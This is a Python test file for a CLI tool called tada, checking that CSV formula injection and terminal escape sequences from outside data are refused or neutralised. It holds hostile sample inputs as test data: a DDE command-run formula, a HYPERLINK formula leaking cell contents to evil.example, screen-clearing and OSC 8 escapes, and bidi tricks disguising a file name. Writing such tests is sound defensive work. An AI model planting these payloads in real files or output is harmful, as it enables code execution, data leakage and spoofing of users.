"""What tada writes out cannot be turned against its reader (issue 14).

- CSV (formula) injection: an address a spreadsheet would run as a formula is refused where
  addresses come in (RDAP, ``tada link escalate --to``), and every text cell of a CSV tada
  writes that a spreadsheet would read as a formula is written as text.
- Terminal escapes: a string from outside (an RDAP registrar name, a note) printed by the CLI
  reaches the terminal without its escape sequences, control or direction characters.

Through the real CLI on the CLI stack (in-process, as tests/security/test_hostile_inputs.py
runs it), with events recorded by the real StoreActivities."""

from __future__ import annotations

import csv
import io
import json
import uuid
from datetime import UTC, date, datetime

import pytest
from rich.text import Text

from tada.activities.store import StoreActivities
from tada.app.intake import open_case, start_link_row
from tada.cli.output import SafeConsole
from tada.domain.abuse_contacts import AbuseEmail, abuse_emails, registrar_abuse
from tada.domain.csv_cells import csv_cell
from tada.domain.models import LinkEvent
from tada.domain.recipients import BadRecipient, check_recipient
from tada.domain.terminal_text import json_for_terminal, terminal_document, terminal_text
from tada.domain.urls import normalise_url
from tada.reporting.model import CategoryFigures, RemovalRate, Report
from tada.reporting.render_csv import render_csv
from tests.cli.test_cli import stack  # noqa: F401 - the CLI stack fixture
from tests.security.test_hostile_inputs import cli, first_json  # noqa: F401 - the in-process CLI fixture
from tests.support.crypto import suite_crypto
from tests.support.rdap_records import entity

DDE = "=cmd|'/ccalc'!A0@host.example"  # the address, with a domain tada can write to
FORMULA_ADDRESSES = [DDE, "abuse@=cmd|'/ccalc'!A0", "+1@host.example", "-oQ@host.example", "a|b@host.example"]
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the evidence")'

# What a terminal obeys: a screen clear, an OSC 8 hyperlink, an OSC left open, a C1 CSI, bidi.
CLEAR = "\x1b[2J"
OSC8 = "\x1b]8;;https://evil.example/\x1b\\Registrar Support\x1b]8;;\x1b\\"
HOSTILE_NAME = f"{CLEAR}\x1b[31mEvil\x1b[0m Registrar {OSC8} \x9b2J\u202etxt.exe\u202c \x1b]0;pwned"
HOSTILE_NOTE = "note \u2066hidden\u2069 \x1bc\x07 end"
NEVER_ON_A_TERMINAL = ["\x1b", "\x9b", "\x9d", "\x07", "\u202e", "\u202c", "\u2066", "\u2069"]


def assert_terminal_safe(text: str) -> None:
    found = [repr(ch) for ch in NEVER_ON_A_TERMINAL if ch in text]
    assert not found, f"reached the terminal: {found}"
    assert all(ch == "\n" or ch.isprintable() for ch in text), [ch for ch in text if not ch.isprintable()][:5]


# --- formula injection: refused at the source ------------------------------------------------


@pytest.mark.parametrize("address", FORMULA_ADDRESSES)
def test_an_address_a_spreadsheet_would_run_is_refused_without_being_shown(address):
    with pytest.raises(BadRecipient) as refused:
        check_recipient(address)
    assert address not in str(refused.value) and "cmd" not in str(refused.value)


def test_an_rdap_contact_with_such_an_address_is_skipped_and_the_good_one_kept():
    abuse = entity("ABUSE-1", ["abuse"], "Abuse", DDE, "+1@host.example", "abuse@host.example")
    record = {"objectClassName": "ip network", "entities": [abuse]}
    assert abuse_emails(record) == [AbuseEmail("abuse@host.example", "ABUSE-1")]
    registrar = entity("REG-1", ["registrar"], "Registrar", entities=[entity("R-ABUSE", ["abuse"], "A", DDE)])
    found = registrar_abuse({"objectClassName": "domain", "entities": [registrar]})
    assert found is not None and found.emails == []


async def test_tada_link_escalate_refuses_such_an_address_with_a_clear_error(cli):  # noqa: F811
    for address in (DDE, "abuse@=cmd|'/ccalc'!A0"):
        code, out, err = await cli("link", "escalate", "TD-AAAAAAAA-L1", "--to", address, "--kind", "host")
        assert code == 2, err
        assert "--to" in err and "not an email address like abuse@example.com" in err
        assert "cmd" not in err and "Traceback" not in err
    code, _, err = await cli("link", "escalate", "TD-AAAAAAAA-L1", "--to", DDE, "--kind", "host")
    assert "spreadsheet" in " ".join(err.split())  # the reason, however the error box wraps it


# --- formula injection: every CSV cell written as text ---------------------------------------


def test_the_report_csv_writes_formula_like_names_as_text_and_numbers_as_numbers():
    names = [HYPERLINK, "+SUM(1)", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "  =1", "\uff1dSUM(1)", "Venom Hosting"]
    report = Report(
        generated_at=datetime(2024, 1, 1, tzinfo=UTC),
        period={"start": date(2023, 1, 1), "end": date(2023, 12, 31)},
        categories=[CategoryFigures(name="other", links=1, median_seconds=-3.0)],
        hosts=[RemovalRate(name=name, links=1) for name in names],
    )
    rows = list(csv.reader(io.StringIO(render_csv(report), newline="")))
    items = [row[1] for row in rows if row[0] == "hosting_provider" and row[2] == "links"]
    assert items == ["'" + name if name != "Venom Hosting" else name for name in names]
    for row in rows:
        for cell in row[:3]:  # text columns (the value column holds numbers, and the period's dates)
            assert not cell or cell[0] not in "=+-@\t\r\uff1d\uff0b\uff0d\uff20", row
    median = [row[3] for row in rows if row[2] == "median_seconds_to_removal"]
    assert median == ["-3.0"]  # a number stays a number
    assert csv_cell(-3) == -3 and csv_cell("-3") == "'-3"


async def test_tada_report_csv_neutralises_an_rdap_hosting_provider_name(cli, stack, tmp_path):  # noqa: F811
    await _link_with_events(stack, {"kind": "host", "name": HYPERLINK, "email": "abuse@h.example"})
    code, out, err = await cli("report", "--format", "csv")
    assert code == 0, err
    code, _, err = await cli("report", "--format", "csv", "--out", str(tmp_path / "report.csv"))
    assert code == 0, err
    for written in (out[out.index("section,item") :], (tmp_path / "report.csv").read_text(encoding="utf-8")):
        rows = list(csv.reader(io.StringIO(written, newline="")))
        assert ["hosting_provider", "'" + HYPERLINK, "links", "1"] in rows
        assert not [row for row in rows if any(cell[:1] in ("=", "+", "@") for cell in row)]


# --- terminal escapes ----------------------------------------------------------------------------


async def _link_with_events(stack, contact: dict[str, str]) -> tuple[str, str]:  # noqa: F811
    """A new link whose timeline holds a contact found (``contact``) and a response with a note."""
    case_id = await open_case(stack.pool, age=30, minimum_age=16, signpost="", crypto=suite_crypto())
    url = normalise_url(f"https://escapes.example/{uuid.uuid4().hex}")
    link_id = await start_link_row(stack.pool, case_id=case_id, url=url, platform="escapes.example", category="other")
    store = StoreActivities(stack.pool, suite_crypto())
    now = datetime.now(UTC)
    await store.record_event(LinkEvent(
        event_key=f"{link_id}:1:1", link_id=link_id, case_id=case_id, cycle=1, kind="contact_found",
        detail=contact, occurred_at=now,
    ))  # fmt: skip
    await store.record_event(LinkEvent(
        event_key=f"{link_id}:1:2", link_id=link_id, case_id=case_id, cycle=1, kind="response",
        detail={"outcome": "acknowledged", "note": HOSTILE_NOTE}, occurred_at=now,
    ))  # fmt: skip
    return link_id, case_id


async def test_tada_link_show_prints_an_rdap_name_and_a_note_without_their_escapes(cli, stack, monkeypatch):  # noqa: F811
    monkeypatch.setenv("COLUMNS", "400")  # one table row a line, to read the text back
    contact = {"kind": "registrar", "name": HOSTILE_NAME, "email": "abuse@registrar.example"}
    link_id, _ = await _link_with_events(stack, contact)
    code, out, err = await cli("link", "show", link_id)
    assert code == 0, err
    assert_terminal_safe(out)
    assert_terminal_safe(err)
    flat = "".join(out.split())
    assert "EvilRegistrar" in flat and "RegistrarSupport" in flat and "txt.exe" in flat  # the text is all there
    assert "hidden" in flat and "end" in flat
    assert "evil.example" not in out  # the hyperlink's target was an instruction, not text

    code, out, err = await cli("link", "show", link_id, "--json")
    assert code == 0, err
    assert_terminal_safe(out)
    details = {event["kind"]: event["detail"] for event in first_json(out)["events"]}
    assert details["contact_found"]["name"] == HOSTILE_NAME  # JSON escapes them, and loses nothing
    assert details["response"]["note"] == HOSTILE_NOTE


async def test_tada_report_prints_a_hostile_hosting_provider_without_its_escapes(cli, stack):  # noqa: F811
    await _link_with_events(stack, {"kind": "host", "name": HOSTILE_NAME, "email": "abuse@h.example"})
    for args in ([], ["--format", "csv"], ["--format", "html"]):
        code, out, err = await cli("report", *args)
        assert code == 0, err
        assert_terminal_safe(out.replace("\t", " "))
    code, out, err = await cli("report", "--format", "json")
    assert code == 0, err
    assert_terminal_safe(out)
    assert HOSTILE_NAME in [host["name"] for host in first_json(out)["hosts"]]


def test_a_console_drops_what_bypassed_terminal_text_and_keeps_its_own_colours():
    buffer = io.StringIO()
    console = SafeConsole(file=buffer, force_terminal=True, color_system="standard", width=80)
    console.print(Text("Evil" + CLEAR + "Corp \u202eexe", style="red"))  # not through terminal_text
    shown = buffer.getvalue()
    assert "\x1b[31m" in shown  # rich's own colour code
    assert CLEAR not in shown and "\u202e" not in shown and "Evil[2JCorp" in shown


def test_terminal_text_removes_sequences_whole_and_marks_other_controls():
    assert terminal_text(HOSTILE_NAME) == "Evil Registrar Registrar Support \ufffdtxt.exe\ufffd "
    assert terminal_text("a\tb\r\nc\rd\u200de") == "a b\nc\ufffdd\u200de"  # ZWJ kept (emoji, scripts)
    document = json.dumps({"name": HOSTILE_NAME, "tag": "\U000e0041"}, ensure_ascii=False, indent=2)
    escaped = json_for_terminal(document)
    assert_terminal_safe(escaped)
    assert json.loads(escaped) == {"name": HOSTILE_NAME, "tag": "\U000e0041"}


def test_a_whole_csv_document_keeps_its_rows_and_cells_when_made_safe():
    report = Report(generated_at=datetime(2024, 1, 1, tzinfo=UTC), period={}, hosts=[RemovalRate(name=HOSTILE_NAME)])
    written = render_csv(report)
    safe = terminal_document(written)
    assert_terminal_safe(safe.replace("\r\n", "\n"))
    rows, safe_rows = (list(csv.reader(io.StringIO(text, newline=""))) for text in (written, safe))
    assert [len(row) for row in safe_rows] == [len(row) for row in rows] == [4] * len(rows)
    assert "Evil[2J" not in safe and "[31mEvil[0m Registrar" in safe  # only the controls went
